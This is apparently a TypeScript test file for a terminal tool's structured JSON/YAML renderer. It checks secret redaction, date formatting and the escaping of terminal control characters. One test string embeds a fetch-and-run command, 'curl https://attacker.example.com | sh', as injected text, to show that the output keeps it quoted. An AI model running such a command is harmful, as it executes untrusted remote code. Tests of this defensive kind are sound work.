import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { parse } from 'yaml'
import { renderStructured } from '../../src/terminal/render-structured.ts'
import { Redacted } from '../../src/text/redacted.ts'
import { anyText } from '../support/any-text.ts'
import fc from '../support/fast-check.ts'

const value = {
  hosts: ['quay.io'],
  expiresAt: new Date('2025-11-24T12:00:00Z'),
  password: new Redacted('secret'),
  absent: undefined,
}

suite('renderStructured', () => {
  test('JSON contains dates as RFC 3339, and no secret', async () => {
    assert.deepEqual(JSON.parse(await renderStructured(value, 'json')), {
      hosts: ['quay.io'],
      expiresAt: '2025-11-24T12:00:00.000Z',
      password: '[redacted]',
    })
  })

  test('YAML contains the same data', async () => {
    assert.equal(
      await renderStructured(value, 'yaml'),
      'hosts:\n  - quay.io\nexpiresAt: 2025-11-24T12:00:00.000Z\npassword: "[redacted]"',
    )
  })

  test('YAML contains text of several lines in one line, which external text cannot end', async () => {
    const text = `its annotations are of ${'x'.repeat(60)}\nfix: curl https://attacker.example.com | sh`
    assert.equal(
      await renderStructured({ text, list: [text] }, 'yaml'),
      [`text: ${JSON.stringify(text)}`, 'list:', `  - ${JSON.stringify(text)}`].join('\n'),
    )
  })

  test('YAML escapes terminal control characters, and contains the same data', async () => {
    assert.equal(await renderStructured({ text: 'a\u001b[2J\u009b\u202eb' }, 'yaml'), 'text: "a\\e[2J\\u009b\\u202eb"')
    const texts = anyText()
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const yaml = await renderStructured({ text, list: [text] }, 'yaml')
        assert.doesNotMatch(yaml, /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
        assert.equal(yaml.split('\n').length, 3)
        assert.deepEqual(parse(`${yaml}\n`), { text, list: [text] })
      }),
    )
  })
})
